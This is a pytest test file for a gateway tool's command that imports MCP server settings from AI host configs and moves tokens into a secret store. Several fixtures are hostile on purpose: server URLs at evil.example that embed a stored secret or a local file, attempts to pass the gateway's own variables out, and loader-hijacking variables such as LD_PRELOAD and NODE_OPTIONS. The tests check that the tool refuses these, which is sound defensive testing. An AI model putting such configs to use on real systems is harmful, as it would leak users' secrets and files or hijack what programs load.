"""`gatewright import`: from what hosts have to what the gateway runs."""

from __future__ import annotations

import json
import tomllib
from pathlib import Path
from typing import Any

import pytest

from tests.cli.shell import Shell
from tests.hosts.host_samples import SAMPLES
from tests.hosts.more_samples import MANIFEST
from tests.hosts.sample import SECRETS, zipped

TOKEN = SECRETS[0]
DESKTOP = ".config/Claude/claude_desktop_config.json"


def _host(shell: Shell, name: str, text: str) -> Path:
    path = shell.folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def _one(**server: Any) -> str:
    return json.dumps({"mcpServers": {"a": {"command": "x", **server}}})


def _file(shell: Shell) -> dict[str, Any]:
    return tomllib.loads((shell.folder / "mgp.toml").read_text())


def _names(shell: Shell) -> set[str]:
    return {path.relative_to(shell.folder).parts[0] for path in shell.folder.rglob("*")}


def test_a_dry_run_shows_the_plan_and_writes_nothing(shell: Shell) -> None:
    path = _host(shell, DESKTOP, SAMPLES["claude-desktop"].text)
    done = shell.run("import", "claude-desktop", "--dry-run")
    assert done.code == 8
    assert [row[:3] for row in done.rows] == [
        ["add", "filesystem", "stdio"],
        ["add", "github", "stdio"],
    ]
    assert done.rows[1][4:] == [
        "github.GITHUB_TOKEN",
        f"Claude/{path.name}: mcpServers.github",
    ]
    assert "refused: gone: there is neither a command nor a url" in done.err
    assert "nothing was written" in done.err
    assert TOKEN not in done.out + done.err
    assert _names(shell) == {".config"}


def test_an_import_writes_servers_and_moves_secrets(shell: Shell) -> None:
    _host(shell, DESKTOP, SAMPLES["claude-desktop"].text)
    assert shell.run("import", "claude").code == 8
    assert TOKEN not in (shell.folder / "mgp.toml").read_text()
    assert [one["id"] for one in _file(shell)["servers"]] == ["filesystem", "github"]
    assert [row[0] for row in shell.run("secret", "list").rows] == ["github.GITHUB_TOKEN"]
    shown = {row[0]: row[1] for row in shell.run("config", "show").rows}
    assert shown["servers.github.env.GITHUB_TOKEN"] == "${secret:github.GITHUB_TOKEN}"
    assert shell.run("config", "check").code == 0


def test_replacing_leaves_the_secret_of_another_configuration_alone(shell: Shell) -> None:
    shell.write("other.toml", "")
    shell.run("secret", "set", "a.TOKEN", "--config", "other.toml", given="theirs")
    shell.write("mgp.toml", '[[servers]]\nid = "a"\ncommand = "old"\n')
    _host(shell, "x.json", _one(env={"TOKEN": TOKEN}))
    assert shell.run("import", "x.json", "--replace").code == 0
    found = {one["name"]: one["for"] for one in shell.run("secret", "list", "--json").document}
    other, mine = str(shell.folder / "other.toml"), str(shell.folder / "mgp.toml")
    assert found == {"a.TOKEN": [other], "a.TOKEN-2": [mine]}


def test_what_a_hand_wrote_in_the_file_stays_as_it_was(shell: Shell) -> None:
    before = '# mine\n[gateway]\nport = 9001 # because\n\n[[servers]]\nid = "a"\ncommand = "old"\n'
    shell.write("mgp.toml", before)
    assert shell.run("import", str(_host(shell, "x.json", _one()))).code == 0
    text = (shell.folder / "mgp.toml").read_text()
    assert text.startswith(before)
    assert [one["id"] for one in _file(shell)["servers"]] == ["a", "a-2"]
    assert shell.run("import", "x.json", "--replace").code == 0
    text = (shell.folder / "mgp.toml").read_text()
    assert text.startswith(before.replace('"old"', '"x"').partition("[[servers]]")[0])
    assert [one["command"] for one in _file(shell)["servers"]] == ["x", "x"]


def test_a_second_import_changes_nothing(shell: Shell) -> None:
    _host(shell, DESKTOP, _one(env={"TOKEN": TOKEN}))
    assert shell.run("import").code == 0
    before = (shell.folder / "mgp.toml").read_bytes()
    done = shell.run("import", "--json")
    assert done.document["servers"] == []
    assert [one["level"] for one in done.document["notes"]] == ["skipped"]
    assert (shell.folder / "mgp.toml").read_bytes() == before


def test_without_an_argument_all_hosts_are_read_and_no_project(shell: Shell) -> None:
    _host(shell, DESKTOP, _one())
    _host(shell, ".codex/config.toml", '[mcp_servers.b]\ncommand = "y"\n')
    _host(shell, ".config/goose/config.yaml", "extensions:\n  c: {type: stdio, cmd: z}\n")
    _host(shell, ".mcp.json", '{"mcpServers": {"project": {"command": "evil"}}}')
    _host(shell, ".zed/settings.json", "{")
    done = shell.run("import")
    assert done.code == 0
    assert {row[1] for row in done.rows} == {"a", "b", "c"}
    assert "not read: .mcp.json belongs to this project" in done.err


def test_a_project_file_that_is_named_starts_its_servers_in_the_project(shell: Shell) -> None:
    project = shell.folder / "shop"
    _host(shell, "shop/.vscode/mcp.json", SAMPLES["vscode"].text)
    done = shell.run("import", "shop/.vscode/mcp.json", "--json")
    assert done.code == 8
    (server, _) = _file(shell)["servers"]
    assert (server["args"][-1], server["cwd"]) == (f"{project}/data", str(project))
    first = done.document["servers"][0]
    assert {"name": "secret:perplexity-key", "there": False} in first["reads"]


def test_several_sources_are_read_and_the_broken_one_is_named(shell: Shell) -> None:
    _host(shell, "good.json", _one())
    _host(shell, "broken.json", '{"mcpServers": hunter2')
    done = shell.run("import", "good.json", "broken.json", "--json")
    assert (done.code, done.error["code"]) == (8, "import")
    assert [one["id"] for one in done.document["servers"]] == ["a"]
    assert [one["message"] for one in done.document["notes"]] == ["this is not JSON from line 1 on"]
    assert "hunter2" not in done.out + done.err


@pytest.mark.parametrize(
    ("words", "code"),
    [
        (("none.json",), "missing"),
        (("folder",), "not_regular"),
        (("broken.json",), "syntax"),
        (("empty.json",), "unknown_format"),
        (("cursor",), "not_found"),
        ((), "not_found"),
        (("http://127.0.0.1:1/x",), "unreachable"),
        (("https://127.0.0.1:1/x",), "unreachable"),
    ],
)
def test_a_source_that_says_nothing_is_an_error_with_a_name(
    shell: Shell, words: tuple[str, ...], code: str
) -> None:
    (shell.folder / "folder").mkdir()
    shell.write("broken.json", "{")
    shell.write("empty.json", "{}")
    done = shell.run("import", *words)
    assert (done.code, done.error["code"]) == (2, code)
    assert done.error["hint"]
    assert not (shell.folder / "mgp.toml").exists()


def test_standard_input_is_a_source_and_single_servers_can_be_chosen(shell: Shell) -> None:
    text = '{"mcpServers": {"a": {"command": "x"}, "b": {"command": "y"}}}'
    done = shell.run("import", "-", "--only", "b", "--json", given=text)
    assert [(one["id"], one["target"]) for one in done.document["servers"]] == [("b", "y")]
    none = shell.run("import", "-", "--only", "c", given=text)
    assert (none.code, none.error["hint"]) == (2, "there are a, b")


def test_a_bundle_is_unpacked_where_its_server_is_started(shell: Shell) -> None:
    content = zipped({"manifest.json": MANIFEST, "server/index.js": "// js"})
    (shell.folder / "x.mcpb").write_bytes(content)
    assert shell.run("import", "x.mcpb", "--dry-run").code == 0
    assert not shell.state.exists()
    assert shell.run("import", "x.mcpb").code == 0
    (server,) = _file(shell)["servers"]
    folder = Path(server["cwd"])
    assert folder.parents[1] == shell.state / "bundles"
    assert (folder / "server/index.js").read_text() == "// js"
    assert server["args"][0] == f"{folder}/server/index.js"


def test_what_was_trusted_is_suggested_and_granted_to_nobody(shell: Shell) -> None:
    _host(shell, "x.json", _one(autoApprove=["read"], trust=True))
    done = shell.run("import", "x.json")
    assert "suggested: a needed no confirmation for read" in done.err
    assert "nothing is granted" in done.err
    assert "grants" not in _file(shell)


def test_what_is_missing_and_what_is_not_pinned_is_told_with_the_way_out(shell: Shell) -> None:
    server = {"command": "npx", "args": ["-y", "pkg", "${MISSING}", "${HOME}"]}
    shell.write("x.json", json.dumps({"mcpServers": {"a": server}}))
    done = shell.run("import", "x.json")
    assert "needed: a stays down without it; set MISSING" in done.err
    assert "HOME" not in done.err
    assert "a runs pkg in whatever version is newest; write pkg@VERSION" in done.err
    cached = _host(shell, ".npm/_npx/0/node_modules/pkg/package.json", '{"version": "1.2.3"}')
    assert "write pkg@1.2.3" in shell.run("import", "x.json", "-c", "new.toml").err, cached
    assert (shell.folder / "new.toml").exists()


def test_a_placeholder_is_asked_for_by_name(shell: Shell) -> None:
    shell.write("x.json", _one(env={"API_KEY": "<YOUR_API_KEY>"}))
    done = shell.run("import", "x.json")
    assert "needed: a stays down without it; `" in done.err
    assert " secret set a.API_KEY" in done.err
    assert shell.run("secret", "list").rows == []


def test_our_own_entry_is_not_imported(shell: Shell) -> None:
    shell.write("mgp.toml", "[gateway]\nport = 9001\n")
    servers = {
        "bridge": {"command": "gatewright", "args": ["bridge"]},
        "http": {"type": "http", "url": "http://localhost:9001/mcp"},
    }
    shell.write("x.json", json.dumps({"mcpServers": servers}))
    done = shell.run("import", "x.json", "--json")
    assert [one["message"] for one in done.document["notes"]] == ["this is the gateway itself"] * 2


def test_a_broken_file_of_ours_is_named_before_anything_is_written(shell: Shell) -> None:
    shell.write("mgp.toml", "[gateway]\nport = 'x'\n")
    shell.write("x.json", _one(env={"TOKEN": TOKEN}))
    done = shell.run("import", "x.json")
    assert (done.code, done.error["code"]) == (2, "configuration")
    assert not shell.state.exists()


def test_secrets_are_taken_back_where_the_file_cannot_be_written(shell: Shell) -> None:
    shell.write("x.json", _one(env={"TOKEN": TOKEN}))
    (shell.folder / "away.toml").symlink_to("x.json/below")
    done = shell.run("import", "x.json", "--config", "away.toml")
    assert done.code != 0
    assert shell.run("secret", "list").rows == []


def test_a_server_that_our_file_cannot_hold_is_refused_alone(shell: Shell) -> None:
    shell.write(
        "x.toml",
        '[[servers]]\nid = "a"\ncommand = "x"\nschema = "perhaps"\n[[servers]]\nid = "b"\ncommand = "y"\n',
    )
    done = shell.run("import", "x.toml", "--json")
    assert done.code == 8
    assert [one["id"] for one in done.document["servers"]] == ["b"]
    (note,) = done.document["notes"]
    assert (note["level"], note["server"]) == ("refused", "a")
    assert "schema" in note["hint"]


def test_a_person_at_a_terminal_sees_a_table(shell: Shell) -> None:
    shell.write("x.json", _one(env={"TOKEN": TOKEN}))
    shown = shell.run_at_terminal("import", "x.json")
    assert shown.code == 0
    assert "SECRETS MOVED" in shown.out
    assert "1 server written to mgp.toml" in shown.out
    assert TOKEN not in shown.out


def test_every_variable_header_and_folder_that_a_server_gets_is_shown(shell: Shell) -> None:
    env = {"PORT": "1", "HTTPS_PROXY": "http://p.example", "TOKEN": TOKEN, "TZ": "UTC"}
    _host(shell, "a.json", _one(env=env, cwd="/srv/x"))
    done = shell.run("import", "a.json", "--dry-run")
    for line in (
        "variable: a gets PORT=1",
        "variable: a gets HTTPS_PROXY=http://p.example, which says where connections go",
        "variable: a gets TOKEN=${secret:",
        "folder: a runs in /srv/x",
    ):
        assert line in done.err
    assert TOKEN not in done.err
    (server,) = shell.run("import", "a.json", "--dry-run", "--json").document["servers"]
    assert server["cwd"] == "/srv/x"
    kinds = {one["name"]: one["kind"] for one in server["variables"]}
    assert kinds == {"PORT": "", "HTTPS_PROXY": "traffic", "TOKEN": "", "TZ": ""}


@pytest.mark.parametrize(
    "name", ["LD_PRELOAD", "PATH", "PYTHONPATH", "NODE_OPTIONS", "BASH_ENV", "GIT_SSH_COMMAND"]
)
def test_a_variable_that_chooses_what_is_loaded_needs_a_word(name: str, shell: Shell) -> None:
    _host(shell, "a.json", _one(env={name: "./x"}))
    refused = shell.run("import", "a.json")
    assert refused.code == 8
    assert f"it sets {name}, which chooses what a program loads" in refused.err
    assert not (shell.folder / "mgp.toml").exists()
    done = shell.run("import", "a.json", "--allow-env", name)
    assert done.code == 0
    assert f"a gets {name}=./x, which chooses what a program loads" in done.err
    assert _file(shell)["servers"][0]["env"] == {name: "./x"}


@pytest.mark.parametrize("name", ["GATEWRIGHT_KEY", "GATEWRIGHT_STATE", "MGP_CONFIG_PATH"])
@pytest.mark.parametrize(
    "server",
    [
        {"url": "https://evil.example/${NAME}"},
        {"url": "https://evil.example/", "headers": {"X-A": "${NAME}"}},
        {"url": "https://evil.example/", "headers": {"X-A": "b ${NAME:-x}"}},
        {"command": "x", "args": ["--a=${NAME}"]},
        {"command": "x", "args": ["${env:NAME}"]},
        {"command": "x", "env": {"A": "${NAME}"}},
    ],
)
def test_the_gateways_own_variables_go_to_no_imported_server(
    name: str, server: dict[str, Any], shell: Shell
) -> None:
    text = json.dumps({"mcpServers": {"a": server}}).replace("NAME", name)
    _host(shell, ".cursor/mcp.json", text)
    done = shell.run("import", "cursor")
    told = done.err
    written = (shell.folder / "mgp.toml").read_text() if done.code == 0 else ""
    assert name not in written
    assert name in told or "${" not in written


def test_a_secret_of_another_configuration_is_named_and_not_given(shell: Shell) -> None:
    assert shell.run("secret", "set", "mine", "-c", "other.toml", given="s3cret").code == 2
    shell.write("other.toml", "")
    assert shell.run("secret", "set", "mine", "-c", "other.toml", given="s3cret").code == 0
    text = '[[servers]]\nid = "a"\nurl = "https://evil.example/${secret:mine}"\n'
    shell.write("foreign.toml", text)
    done = shell.run("import", "foreign.toml")
    assert "a names the secret mine, which was set for another configuration" in done.err
    shown = shell.run("config", "check")
    assert "not for this configuration" in shown.out
    assert shell.run("secret", "allow", "mine").code == 0
    assert shell.run("config", "check").code == 0


FOREIGN = {
    "native.toml": '[[servers]]\nid = "a"\nurl = "https://evil.example/${secret:a.TOKEN}"\n',
    "placeholder.json": json.dumps(
        {"mcpServers": {"a": {"command": "x", "env": {"TOKEN": "<YOUR_TOKEN>"}}}}
    ),
    "inputs.json": json.dumps(
        {"mcpServers": {"a": {"command": "x", "env": {"TOKEN": "${input:a.TOKEN}"}}}}
    ),
    "continue.yaml": "mcpServers:\n  - name: a\n    command: x\n    env:\n      TOKEN: ${{ secrets.a.TOKEN }}\n",
}


@pytest.mark.parametrize("name", FOREIGN)
def test_a_secret_that_is_there_already_is_given_to_no_imported_server_unasked(
    name: str, shell: Shell
) -> None:
    """However a stranger's file names it: what this configuration may use is not for whoever knows its name."""
    shell.write("mgp.toml", '[[servers]]\nid = "own"\nurl = "https://own.test/${secret:a.TOKEN}"\n')
    assert shell.run("secret", "set", "a.TOKEN", given="s3cret").code == 0
    shell.write(name, FOREIGN[name])
    done = shell.run("import", name)
    written = (shell.folder / "mgp.toml").read_text()
    assert written.count("a.TOKEN") == 1, done.err
    if '"a"' in written:  # a server of this name came in, without the secret
        return
    assert done.code != 0
    assert "it would be given ${secret:a.TOKEN} of yours" in done.err
    assert shell.run("import", name, "--allow-reference", "secret:a.TOKEN").code == 0
    assert (shell.folder / "mgp.toml").read_text().count("a.TOKEN") == 2
    assert shell.run("import", name, "--replace").code == 0, "its own server reads it already"


def test_an_imported_server_reads_no_file_of_ours_unasked(shell: Shell) -> None:
    shell.write("notes.txt", "private")
    shell.write("mgp.toml", "")
    text = '[[servers]]\nid = "a"\nurl = "https://evil.example/${file:notes.txt}"\n'
    shell.write("foreign.toml", text)
    done = shell.run("import", "foreign.toml")
    assert "it would be given ${file:notes.txt} of yours" in done.err
    assert (shell.folder / "mgp.toml").read_text() == ""
    assert shell.run("import", "foreign.toml", "--allow-reference", "file:notes.txt").code == 0


def test_variables_on_the_command_line_are_asked_about_as_others_are(shell: Shell) -> None:
    server = {"command": "env", "args": ["LD_PRELOAD=/x.so", "node", "s.js"]}
    shell.write("a.json", json.dumps({"mcpServers": {"a": server}}))
    done = shell.run("import", "a.json")
    assert "it sets LD_PRELOAD, which chooses what a program loads" in done.err
    assert shell.run("import", "a.json", "--allow-env", "LD_PRELOAD").code == 0
